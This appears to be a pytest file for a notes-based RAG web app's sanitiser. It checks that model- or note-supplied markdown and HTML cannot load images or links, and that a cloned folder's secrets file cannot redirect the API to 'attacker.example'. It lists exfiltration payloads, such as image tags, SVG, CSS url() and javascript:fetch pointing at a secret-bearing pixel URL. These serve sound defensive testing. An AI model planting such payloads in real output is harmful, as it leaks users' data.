"""Untrusted text in the app (rag/web/untrusted.py): nothing a note, a file name or a model writes loads an image,
runs HTML or links anywhere but Obsidian and the page; the app's pages route every such string through it. The
browser proof (a pixel server that must receive nothing) is in tests/test_browser.py."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from types import SimpleNamespace

import pytest

from rag.web import untrusted
from rag.web.ui_render import answer_html
from rag.web.webapp import split_secrets

PIXEL = "http://127.0.0.1:9/p.png?d=secret"
HOSTILE = [
    f"![x]({PIXEL})",
    f"![x][r]\n\n[r]: {PIXEL}",
    f'<img src="{PIXEL}">',
    f"<p><img src={PIXEL}></p>",
    f"[![x]({PIXEL})](obsidian://open?vault=v&file=a.md)",
    f"| a |\n|---|\n| ![x]({PIXEL}) |",
    f"> quote ![x]({PIXEL})",
    f"## Hotel ![h]({PIXEL})",
    f'<svg><image href="{PIXEL}"/></svg>',
    f"<style>body {{ background: url({PIXEL}) }}</style>",
    f"<iframe src='{PIXEL}'></iframe>",
    f"<video poster='{PIXEL}'></video>",
    f"[click](javascript:fetch('{PIXEL}'))",
    f"<a href='{PIXEL}'>x</a>",
]


@pytest.mark.parametrize("source", HOSTILE)
def test_no_markdown_or_html_from_a_note_or_a_model_can_load_or_link_anywhere(source):
    html = untrusted.markdown_html(source)
    tags = _tags(html)
    assert {name for name, _ in tags} <= {"p", "h2", "blockquote", "table", "thead", "tbody", "tr", "th", "td", "span", "a", "code", "pre"}
    attributes = {(name, key) for name, attrs in tags for key, _ in attrs}
    assert attributes <= {("span", "class"), ("a", "href")}, attributes
    hrefs = [value for _, attrs in tags for key, value in attrs if key == "href"]
    assert all(h.startswith(("obsidian://", "#")) for h in hrefs), hrefs
    assert "127.0.0.1:9" in html or "javascript" in html or "style" in source  # shown as text, not dropped silently


def _tags(html: str) -> list[tuple[str, list]]:
    found = []

    class Collect(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, attrs))

    Collect().feed(html)
    return found


def test_markdown_stays_markdown_and_other_addresses_are_shown_as_text():
    html = untrusted.markdown_html("**Bake** at 250 °C:\n\n1. feed\n2. wait\n\nSee [the docs](https://example.org/x) and `code`.")
    assert "<strong>Bake</strong>" in html and "<ol>" in html and "<code>code</code>" in html
    assert "<a " not in html and "the docs" in html and "(https://example.org/x)" in html


def test_plain_text_in_streamlit_markdown_is_inert():
    shown = untrusted.text(f"## Hotel ![h]({PIXEL}) :red[x] :material/warning: $5 1. `a`\n\x1b]52;c;aGk=\x07\u202e")
    assert "\n" not in shown and "\x1b" not in shown and "\x07" not in shown and "\u202e" not in shown
    unescaped = re.sub(r"\\.", "", shown)  # what is left once every escaped character is taken out
    assert not re.search(r"[!\[\]():`#$*_<>|~]", unescaped)


def _claim(text: str, part: str, status: str):
    start = text.index(part)
    return SimpleNamespace(start=start, end=start + len(part), status=status)


def test_an_answer_keeps_its_citations_and_badges_and_loses_a_planted_image():
    text = f"The hotel costs 5 200 [S1]. ![s]({PIXEL}) Also a made-up claim [S1]."
    claims = [_claim(text, "The hotel costs 5 200 [S1].", "supported"), _claim(text, f"![s]({PIXEL}) Also a made-up claim [S1].", "unsupported")]
    html = answer_html(text, ["S1"], turn=2, claims=claims)
    assert html.count('<a href="#cite-2-S1">[S1]</a>') == 2
    assert '<mark class="rag-unsupported">' in html and "rag-badge rag-unsupported" in html and "not in your notes" in html
    assert "<img" not in html and "rag-image" in html


def test_an_answer_cannot_forge_the_highlight_markers():
    html = answer_html("Fine \ue000forged\ue001 \ue002 [S1].", ["S1"], turn=0)
    assert "<mark" not in html and "rag-badge" not in html


def test_a_working_folders_secrets_file_is_not_read_for_settings(tmp_path):
    home, app, work = tmp_path / "home", tmp_path / "app", tmp_path / "cloned-repo"
    for folder, body in (
        (home, 'OPENAI_API_KEY = "sk-mine"\n'),
        (work, 'OPENAI_BASE_URL = "http://attacker.example/v1"\nRAG_CHAT_MODEL = "x"\nOPENAI_API_KEY = "sk-mine"\n'),
        (app, "RAG_CONTEXT_MAX_NOTES = 3\n"),
    ):
        (folder / ".streamlit").mkdir(parents=True)
        (folder / ".streamlit" / "secrets.toml").write_text(body, encoding="utf-8")
    files = [home / ".streamlit/secrets.toml", work / ".streamlit/secrets.toml", app / ".streamlit/secrets.toml"]
    split = split_secrets(files, home=home, app_folder=app)
    assert split.values == {"OPENAI_API_KEY": "sk-mine", "RAG_CONTEXT_MAX_NOTES": "3"}
    assert list(split.ignored) == [work / ".streamlit/secrets.toml"]
    assert split.distrusted() == {"OPENAI_BASE_URL": "http://attacker.example/v1", "RAG_CHAT_MODEL": "x"}  # the key is the user's own
    started_in_the_app_folder = split_secrets(files[:1] + files[2:], home=home, app_folder=app)
    assert not started_in_the_app_folder.ignored
